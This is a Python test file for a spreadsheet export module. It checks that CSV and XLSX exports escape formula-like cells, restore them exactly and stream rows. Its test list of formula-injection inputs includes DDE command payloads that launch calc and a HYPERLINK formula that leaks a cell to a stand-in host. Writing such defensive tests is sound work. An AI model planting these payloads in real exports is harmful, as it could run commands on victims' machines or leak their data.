"""Exports carry no formula, lose no character, and stream."""

import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from accounts.reading import open_sheet
from core.spreadsheet import csv_stream, neutralise, restore, xlsx_stream

ACTING = [
    "=1+1",
    "-1+1",
    "+1+1",
    "@A3",
    "%1",
    "|1+1",
    "=1|2",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tx",
    "\rx",
    "\nx",
    " =1",
    "＝1+1",
    "-",
    "- call him",
    '=HYPERLINK("http://x.example?leak="&A1,"click")',
]
HARMLESS = [
    "1+2",
    "1",
    "Foo",
    "-1.3",
    "-1,2",
    "+1,5",
    "-1,234.50",
    "1-2",
    "1=3",
    "ana@acme.example",
    "19.00 %",
    "-5 %",
    "Test | Foo",
    "",
    "+445550101",
    "+49 30 901820",
    "+1 (415) 293 3313",
    "it's",
    "'quoted'",
]


@pytest.mark.parametrize("text", ACTING)
def test_cells_that_could_act_are_neutralised(text: str) -> None:
    assert neutralise(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_cells_are_untouched(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


@given(st.one_of(st.text(), st.text(alphabet="='+-@|%\t\r 1a")))
def test_restore_undoes_neutralise(text: str) -> None:
    safe = neutralise(text)
    assert restore(safe) == text
    assert not safe.lstrip().startswith(("=", "@", "|", "%"))


STORABLE = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=50)


@given(st.lists(st.tuples(STORABLE.filter(str.strip), STORABLE.filter(bool)), min_size=1, max_size=5))
def test_csv_comes_back_exactly(rows: list[tuple[str, str]]) -> None:
    sheet = open_sheet(b"".join(csv_stream(["Name", "Note"], rows)))
    assert [tuple(restore(cell) for cell in row.cells[:2]) for row in sheet.rows()] == rows


XML = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00\ufffe\uffff"), max_size=50)


@given(st.lists(st.tuples(XML.filter(str.strip), XML.filter(bool)), min_size=1, max_size=5))
def test_xlsx_comes_back_exactly(rows: list[tuple[str, str]]) -> None:
    sheet = open_sheet(b"".join(xlsx_stream(["Name", "Note"], rows)))
    assert [tuple(restore(cell) for cell in row.cells[:2]) for row in sheet.rows()] == rows


def test_other_programs_read_the_workbook() -> None:
    content = b"".join(xlsx_stream(["Näme", "Amount"], [["=1+1", 12.5], ["Bo & <Co>", 3]], name="Deals/2025"))
    page = openpyxl.load_workbook(io.BytesIO(content)).active
    assert page.title == "Deals 2025"
    assert [[cell.value for cell in row] for row in page] == [
        ["Näme", "Amount"],
        ["'=1+1", 12.5],
        ["Bo & <Co>", 3],
    ]


def test_rows_are_written_as_they_come() -> None:
    taken = 0

    def rows() -> "object":
        nonlocal taken
        for number in range(5_000):
            taken += 1
            yield [number, "x" * 20]

    stream = csv_stream(["n", "x"], rows())  # type: ignore[arg-type]
    next(stream)
    assert taken < 1_000
